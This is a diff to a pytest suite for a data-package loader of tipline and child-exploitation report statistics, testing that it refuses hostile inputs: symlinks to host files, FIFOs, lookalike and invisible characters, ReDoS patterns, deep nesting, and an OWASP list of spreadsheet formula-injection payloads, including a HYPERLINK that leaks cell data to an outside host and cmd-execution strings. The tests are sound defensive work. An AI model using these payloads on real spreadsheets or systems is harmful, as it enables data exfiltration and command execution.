@@ -74,7 +74,8 @@ NUMBERS = {
     "nan in a number field": ("estimates.csv", "", "low", "nan", "not a number"),
     "inf in downstream": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", "inf", "not a number"),
     "nan in downstream": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", "NaN", "not a number"),
-    "overflowing exponent": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", "1e999", "not a finite number"),
+    "overflowing exponent": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", "1e999", "no exponent"),
+    "400 digits": ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "value", "9" * 400, "not a finite number"),
     "count of 10^30": ("recipients.csv", "2023,icac,actionable", "reports", "1" + "0" * 30, "above the maximum"),
     "Arabic-Indic digits": ("recipients.csv", "2023,icac,actionable", "reports", "\u0661\u0662\u0663", "digits 0-9 only"),
     "full-width year": ("recipients.csv", "2023,icac,actionable", "year", "\uff12\uff10\uff12\uff13", "digits 0-9 only"),
@@ -179,7 +180,7 @@ def test_invalid_json_in_the_package_names_file_line_and_character(tmp_path):
     lines[9] = lines[9] + ","  # a trailing comma
     path.write_text("\n".join(lines))
     message = _refused(copy)
-    assert "datapackage.json" in message and re.search(r"line 1[01]\b", message) and "character" in message, message
+    assert "datapackage.json, line 11, column 2: not valid JSON" in message, message
 
 
 def test_a_byte_order_mark_is_refused(tmp_path):
@@ -424,3 +425,390 @@ def test_the_build_refuses_pages_with_unknown_inline_code():
                  '<img src="x" onerror="alert(1)">', "<svg onload=alert(1)></svg>"):
         with pytest.raises(RuntimeError, match="page.html"):
             sphinx._lock(Path("page.html"), head + body + "</body></html>")
+
+
+# --- round two (issue 21): only listed plain files ------------------------------------------
+
+def _package_copy(tmp_path: Path) -> Path:
+    """A folder holding only datapackage.json: enough for tests of the package itself."""
+    folder = tmp_path / "pkg"
+    folder.mkdir()
+    shutil.copy2(DATA / "datapackage.json", folder / "datapackage.json")
+    return folder
+
+
+@pytest.mark.parametrize("name", ["evil.html", "logo.svg", "evil.js", "notes.txt", ".hidden", "extra.csv"])
+def test_a_file_the_package_does_not_list_is_refused_whatever_its_extension(tmp_path, name):
+    copy = _copy(tmp_path)
+    (copy / name).write_text('<script src="evil.js"></script>')
+    message = _refused(copy)
+    assert f"{name}: is not listed in datapackage.json" in message, message
+
+
+def _alarm(seconds: int):
+    """Fail, rather than hang, a test whose code would block (a FIFO read)."""
+    import signal
+
+    def expired(*_):
+        raise AssertionError(f"blocked for {seconds} s")
+    signal.signal(signal.SIGALRM, expired)
+    signal.alarm(seconds)
+
+
+@pytest.mark.parametrize("kind", ["link to a host file", "link to /dev/zero", "link to a folder", "folder", "fifo",
+                                  "linked package"])
+def test_links_and_special_files_are_refused_by_name_without_being_read(tmp_path, kind):
+    import os
+    import signal
+
+    copy = _copy(tmp_path)
+    target = copy / ("datapackage.json" if kind == "linked package" else "feedback.csv")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.txt").write_text("host secret\n")
+    if kind != "folder and fifo":
+        target.unlink()
+    if kind == "link to a host file":
+        target.symlink_to("/etc/hostname")
+    elif kind == "link to /dev/zero":
+        target.symlink_to("/dev/zero")
+    elif kind == "link to a folder":
+        target = copy / "more"
+        target.symlink_to(outside, target_is_directory=True)
+        (copy / "feedback.csv").write_bytes((DATA / "feedback.csv").read_bytes())
+    elif kind == "folder":
+        target.mkdir()
+    elif kind == "fifo":
+        os.mkfifo(target)
+    else:
+        target.symlink_to(DATA / "datapackage.json")
+    _alarm(20)
+    try:
+        message = _refused(copy)
+    finally:
+        signal.alarm(0)
+    words = {"folder": "is a folder", "fifo": "is a FIFO"}.get(kind, "is a symbolic link")
+    assert f"{target.name}: {words}" in message, message
+    assert "host secret" not in message
+
+
+def test_a_listed_file_is_read_only_if_it_is_a_plain_file(tmp_path):
+    import os
+
+    from tipline.evidence.data import _bytes
+
+    os.mkfifo(tmp_path / "fifo.csv")
+    (tmp_path / "link.csv").symlink_to("/dev/zero")
+    _alarm(20)
+    try:
+        for name, words in (("fifo.csv", "is a FIFO"), ("link.csv", "is a symbolic link")):
+            with pytest.raises(DataError, match=words):
+                _bytes(tmp_path / name)
+        with pytest.raises(DataError, match="is a character device"):
+            _bytes(Path("/dev/zero"))
+    finally:
+        import signal
+        signal.alarm(0)
+
+
+# --- identifiers, invisible characters, formulas ------------------------------------------------
+
+def _esp_lookalike(copy: Path, real: str, fake: str, moved: int) -> int:
+    """The issue's attack: move `moved` 2023 reports from provider `real` to a new row `fake`,
+    keeping the ESP total; returns the new row's line."""
+    path = copy / "esp_reports.csv"
+    lines = path.read_bytes().decode("utf-8").split("\n")
+    number = next(i for i, line in enumerate(lines) if line.startswith(f"2023,{real},"))
+    cells = lines[number].split(",")
+    fake_cells = [cells[0], fake, cells[2], str(moved)] + cells[4:]
+    cells[3] = str(int(cells[3]) - moved)
+    lines[number] = ",".join(cells)
+    lines.insert(number + 1, ",".join(fake_cells))
+    path.write_bytes("\n".join(lines).encode("utf-8"))
+    return number + 2
+
+
+@pytest.mark.parametrize("real, fake", [("Google", "G\u043e\u043egle"), ("Google", "Google\u200b"),
+                                        ("Facebook", "Faceb\u043eok")])
+def test_a_lookalike_key_is_refused_where_it_is_written(tmp_path, real, fake):
+    # without the character set, the Google edit published "470,958" (the source says 1,470,958) and the
+    # Facebook one stopped the build blaming claims.csv
+    copy = _copy(tmp_path)
+    line = _esp_lookalike(copy, real, fake, 1_000_000)
+    message = _refused(copy)
+    _names(message, "esp_reports.csv", line, "provider")
+    assert "claims.csv" not in message
+
+
+def test_every_key_field_declares_its_character_set(tmp_path):
+    folder = _package_copy(tmp_path)
+    path = folder / "datapackage.json"
+    text = path.read_text(encoding="utf-8")
+    pattern = '"pattern": "[A-Za-z0-9][ -~‘’“”–—§]*"'
+    assert text.count(pattern) == 3
+    path.write_text(text.replace(",\n       " + pattern, "", 1), encoding="utf-8")
+    with pytest.raises(DataError, match=r"datapackage\.json, line [0-9]+, column [0-9]+: .*reports_annual\.locator "
+                                        r"is part of a key, so it is an identifier"):
+        tipline.evidence.data.package(folder)
+
+
+INVISIBLE = {  # character: where it goes (file, line starting with, column)
+    "\u202e": ("esp_reports.csv", "2023,Google,", "provider"),  # RIGHT-TO-LEFT OVERRIDE, in a key
+    "\u202c": ("recipients.csv", "2023,icac,actionable", "locator"),  # POP DIRECTIONAL FORMATTING, in text
+    "\u2066": ("policy_events.csv", "2024-05-07", "description"),  # LEFT-TO-RIGHT ISOLATE
+    "\u200d": ("sources.csv", "ncmec_esp_2019,", "title"),  # ZERO WIDTH JOINER
+    "\u00ad": ("sources.csv", "ncmec_esp_2019,", "publisher"),  # SOFT HYPHEN (invisible, category Cf)
+    "\u00a0": ("feedback.csv", "2023,icac", "locator"),  # NO-BREAK SPACE
+    "\u2028": ("policy_events.csv", "2024-05-07", "description"),  # LINE SEPARATOR
+    "\ue000": ("policy_events.csv", "2024-05-07", "description"),  # private use
+    "\x85": ("policy_events.csv", "2024-05-07", "description"),  # NEXT LINE (a C1 control)
+}
+
+
+def _change_cell(copy: Path, name: str, starts: str, column: str, change) -> int:
+    """Rewrite `name` with one cell changed (read and written as CSV: the cell may be quoted); its line."""
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO((copy / name).read_text(encoding="utf-8"), newline="")))
+    number = next(i for i, row in enumerate(rows) if ",".join(row).startswith(starts))
+    rows[number][rows[0].index(column)] = change(rows[number][rows[0].index(column)])
+    with (copy / name).open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle, lineterminator="\n").writerows(rows)
+    return 1 + sum(cell.count("\n") for row in rows[:number] for cell in row) + number
+
+
+@pytest.mark.parametrize("char", sorted(INVISIBLE), ids=lambda c: f"U+{ord(c):04X}")
+def test_bidi_controls_and_invisible_characters_are_refused_in_every_text_field(tmp_path, char):
+    name, starts, column = INVISIBLE[char]
+    copy = _copy(tmp_path)
+    line = _change_cell(copy, name, starts, column, lambda value: value[:3] + char + value[3:])
+    message = _refused(copy)
+    _names(message, name, line, column)
+    assert f"U+{ord(char):04X}" in message, message
+
+
+def test_text_that_is_not_nfc_is_refused(tmp_path):
+    copy = _copy(tmp_path)
+    line = _replace_line(copy, "policy_events.csv", "2024-05-07", lambda text: text.replace("REPORT Act", "REPORTe\u0301 Act"))
+    message = _refused(copy)
+    _names(message, "policy_events.csv", line, "description")
+    assert "NFC" in message
+
+
+OWASP = ['=HYPERLINK("http://example.org/?leak="&A1,"Error: click for details")', "+cmd|' /C calc'!A0",
+         "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]
+
+
+@pytest.mark.parametrize("formula", OWASP)
+def test_spreadsheet_formulas_are_refused_in_text_cells(tmp_path, formula):
+    copy = _copy(tmp_path)
+    line = _replace_line(copy, "policy_events.csv", "2024-05-07", lambda text: text.replace(
+        "REPORT Act (Public Law 118-59) signed: providers must preserve report contents for one year and report child sex "
+        "trafficking and enticement.", '"' + formula.replace('"', '""') + '"'))
+    message = _refused(copy)
+    _names(message, "policy_events.csv", line, "description")
+    assert "spreadsheet reads as a formula" in message, message
+
+
+def test_negative_numbers_are_numbers_and_a_patterned_condition_is_not_a_formula(tmp_path):
+    from tipline.evidence.data import _check, _parse
+
+    field = {"name": "low", "type": "number", "constraints": {"minimum": -1, "maximum": 10}}
+    assert _parse("-0.5", field) == -0.5
+    _check(-0.5, field)
+    claims = load_all(DATA)["claims"]
+    assert "== claimed" in set(claims["holds_if"])  # the ledger's own grammar, confined by its pattern
+    folder = _package_copy(tmp_path)
+    path = folder / "datapackage.json"
+    pkg = json.loads(path.read_text(encoding="utf-8"))
+    note = next(f for f in pkg["resources"][0]["schema"]["fields"] if f["name"] == "note")
+    note["constraints"] = {"pattern": ".*"}  # a pattern that would let a formula through
+    path.write_text(json.dumps(pkg, indent=1, ensure_ascii=False), encoding="utf-8")
+    with pytest.raises(DataError, match=r"line [0-9]+, column [0-9]+: .*admits the spreadsheet formula"):
+        tipline.evidence.data.package(folder)
+
+
+# --- numbers and dates ------------------------------------------------------------------------
+
+@pytest.mark.parametrize("value, words", [("-0", "negative zero"), ("-0.00", "negative zero"), ("1e-320", "no exponent"),
+                                          ("0.0000001", "at most six decimals"), ("007", "no leading zeros")])
+def test_negative_zero_subnormal_and_odd_spellings_are_refused(tmp_path, value, words):
+    copy = _copy(tmp_path)
+    line = _cell(copy, "estimates.csv", "reports_leading_to_arrest", "low", value)
+    message = _refused(copy)
+    _names(message, "estimates.csv", line, "low")
+    assert words in message, message
+
+
+@pytest.mark.parametrize("name, starts, start, end, value", [
+    ("task_force_funnels.csv", "alabama_alea_icac_unit,", "period_start", "period_end", "2013-01-01"),
+    ("downstream.csv", "icac,2024,2024,fiscal_year,arrests", "period_start", "period_end", "2023"),
+])
+def test_every_period_ends_after_it_starts(tmp_path, name, starts, start, end, value):
+    copy = _copy(tmp_path)
+    line = _cell(copy, name, starts, end, value)
+    message = _refused(copy)
+    _names(message, name, line, start)
+    assert f"is after {end} {value}" in message, message
+
+
+def test_ranges_come_from_the_field_names_of_every_resource():
+    from tipline.evidence.data import _ranges
+
+    found = {r["name"]: _ranges(r["schema"]["fields"]) for r in tipline.evidence.data.package()["resources"]}
+    assert {name for name, pairs in found.items() if pairs} == {"downstream", "task_force_funnels"}
+    assert _ranges([{"name": "x_start", "type": "date"}, {"name": "x_end", "type": "date"}]) == [("x_start", "x_end")]
+
+
+@pytest.mark.parametrize("column, value, words", [
+    ("published", "2099-13-45", "not a real calendar date"), ("published", "2024-02-30", "not a real calendar date"),
+    ("published", "2099-12-01", "in the future"), ("published", "2099", "in the future"),
+    ("accessed", "2099-13-45", "not a date"), ("accessed", "2099-01-01", "in the future"),
+])
+def test_dates_are_real_and_not_in_the_future(tmp_path, column, value, words):
+    copy = _copy(tmp_path)
+    line = _cell(copy, "sources.csv", "ncmec_esp_2019,", column, value)
+    message = _refused(copy)
+    _names(message, "sources.csv", line, column)
+    assert words in message, message
+
+
+# --- datapackage.json read strictly ------------------------------------------------------------
+
+def _edit_package(tmp_path: Path, change) -> Path:
+    folder = _package_copy(tmp_path)
+    path = folder / "datapackage.json"
+    path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")
+    return folder
+
+
+def _package_refused(folder: Path) -> str:
+    with pytest.raises(DataError) as raised:
+        tipline.evidence.data.package(folder)
+    message = str(raised.value)
+    assert re.search(r"datapackage\.json, line [0-9]+, column [0-9]+: ", message), message
+    return message
+
+
+def _line_of(text: str, needle: str, nth: int = 1) -> int:
+    index = -1
+    for _ in range(nth):
+        index = text.index(needle, index + 1)
+    return text[:index].count("\n") + 1
+
+
+def test_a_duplicate_key_in_the_package_is_refused_where_it_is(tmp_path):
+    folder = _edit_package(tmp_path, lambda text: text.replace('"maximum": 100000000', '"maximum": 100,\n       "maximum": 100000000', 1))
+    text = (folder / "datapackage.json").read_text()
+    message = _package_refused(folder)
+    line = _line_of(text, '"maximum": 100000000')
+    assert f"line {line}, column 8: resources" not in message and f"line {line}, column 8: duplicate key 'maximum'" in message, message
+
+
+@pytest.mark.parametrize("keyword, value", [("exclusiveMaximum", "100"), ("missingValues", '["", "NA"]'), ("rdfType", '"x"')])
+def test_a_keyword_the_loader_does_not_enforce_is_refused(tmp_path, keyword, value):
+    target = '"constraints": {' if keyword == "exclusiveMaximum" else '"schema": {'
+    folder = _edit_package(tmp_path, lambda text: text.replace(target, f'{target}\n "{keyword}": {value},', 1))
+    message = _package_refused(folder)
+    assert f"'{keyword}' is not a keyword this loader enforces" in message, message
+
+
+@pytest.mark.parametrize("keyword, value, cell, words", [
+    ("maxLength", 400, "n" * 401, "longer than 400 characters"),
+    ("unique", True, None, "the field is unique"),
+])
+def test_every_declared_constraint_is_enforced(tmp_path, keyword, value, cell, words):
+    copy = _copy(tmp_path)
+    path = copy / "datapackage.json"
+    pkg = json.loads(path.read_text(encoding="utf-8"))
+    resource = next(r for r in pkg["resources"] if r["name"] == "recipients")
+    column = "note" if keyword == "maxLength" else "source_id"
+    next(f for f in resource["schema"]["fields"] if f["name"] == column).setdefault("constraints", {})[keyword] = value
+    path.write_text(json.dumps(pkg, indent=1, ensure_ascii=False), encoding="utf-8")
+    if cell:
+        line = _change_cell(copy, "recipients.csv", "2023,icac,actionable", column, lambda _: cell)
+    else:  # the second row with the first row's source id
+        rows = (copy / "recipients.csv").read_text(encoding="utf-8").split("\n")
+        first = rows[1].split(",")[resource["schema"]["fields"].index(next(f for f in resource["schema"]["fields"] if f["name"] == column))]
+        line = next(i for i, row in enumerate(rows[2:], 3) if first in row)
+    message = _refused(copy)
+    _names(message, "recipients.csv", line, column)
+    assert words in message, message
+
+
+def test_a_second_resource_with_the_same_name_is_refused(tmp_path):
+    copy = _copy(tmp_path)
+    shutil.copy2(copy / "feedback.csv", copy / "feedback2.csv")
+    path = copy / "datapackage.json"
+    pkg = json.loads(path.read_text(encoding="utf-8"))
+    second = json.loads(json.dumps(next(r for r in pkg["resources"] if r["name"] == "feedback")))
+    second["path"] = "feedback2.csv"
+    pkg["resources"].append(second)
+    path.write_text(json.dumps(pkg, indent=1, ensure_ascii=False), encoding="utf-8")
+    message = _refused(copy)
+    assert "a second resource named 'feedback'" in message, message
+    assert re.search(r"datapackage\.json, line [0-9]+, column [0-9]+", message), message
+
+
+@pytest.mark.parametrize("case", ["no name", "no schema", "minimum as text", "enum of the wrong type", "format unknown"])
+def test_a_malformed_resource_is_refused_with_line_and_column(tmp_path, case):
+    def change(text):
+        pkg = json.loads(text)
+        resource = pkg["resources"][2]
+        field = resource["schema"]["fields"][2]
+        if case == "no name":
+            del resource["name"]
+        elif case == "no schema":
+            del resource["schema"]
+        elif case == "minimum as text":
+            field["constraints"]["minimum"] = "0"
+        elif case == "enum of the wrong type":
+            field["constraints"]["enum"] = ["1", 2]
+        else:
+            field["format"] = "email"
+        return json.dumps(pkg, indent=1, ensure_ascii=False)
+    message = _package_refused(_edit_package(tmp_path, change))
+    words = {"no name": "lacks 'name'", "no schema": "lacks 'schema'", "minimum as text": 'must be an integer, not "0"',
+             "enum of the wrong type": 'must be an integer, not "1"', "format unknown": "format 'email'"}[case]
+    assert words in message, message
+
+
+def test_a_primary_key_written_as_one_string_is_read_as_a_list(tmp_path):
+    copy = _copy(tmp_path)
+    path = copy / "datapackage.json"
+    text = path.read_text(encoding="utf-8")
+    assert text.count('"primaryKey": [\n     "estimate"\n    ]') == 1
+    path.write_text(text.replace('"primaryKey": [\n     "estimate"\n    ]', '"primaryKey": "estimate"'), encoding="utf-8")
+    assert tipline.evidence.data.package(copy)["resources"][10]["schema"]["primaryKey"] == ["estimate"]
+    rows = (copy / "estimates.csv").read_text(encoding="utf-8").split("\n")
+    (copy / "estimates.csv").write_text("\n".join(rows[:2] + [rows[1]] + rows[2:]), encoding="utf-8")
+    _names(_refused(copy), "estimates.csv", 3, "estimate")
+
+
+def test_nesting_200000_levels_deep_is_refused_at_once(tmp_path):
+    import time
+
+    folder = _edit_package(tmp_path, lambda text: text.replace('"licenses": [', '"licenses": [' + "[" * 200_000 + "]" * 200_000 + ",", 1))
+    started = time.perf_counter()
+    message = _package_refused(folder)
+    assert "nested more than 12 levels deep" in message and time.perf_counter() - started < 2, message
+
+
+def test_a_backtracking_pattern_runs_in_linear_time_and_an_unsafe_one_is_refused(tmp_path):
+    import time
+
+    copy = _copy(tmp_path)
+    path = copy / "datapackage.json"
+    path.write_text(path.read_text(encoding="utf-8").replace('"pattern": "[a-z0-9_]+"', '"pattern": "([a-z0-9_]+)+"'),
+                    encoding="utf-8")
+    line = _cell(copy, "sources.csv", "ncmec_esp_2019,", "source_id", "a" * 100_000 + "!")
+    started = time.perf_counter()
+    message = _refused(copy)  # Python's re needs over 60 s for 30 characters of this
+    _names(message, "sources.csv", line, "source_id")
+    assert "does not match the pattern" in message and time.perf_counter() - started < 5, message
+    for number, pattern in enumerate((r"([a-z])\\1", "(?=a)[a-z]+")):  # a back-reference, a look-ahead: RE2 runs neither
+        (tmp_path / str(number)).mkdir()
+        folder = _edit_package(tmp_path / str(number), lambda text: text.replace(
+            '"pattern": "[a-z0-9_]+"', f'"pattern": "{pattern}"', 1))
+        assert "is not a pattern RE2 can run in linear time" in _package_refused(folder)
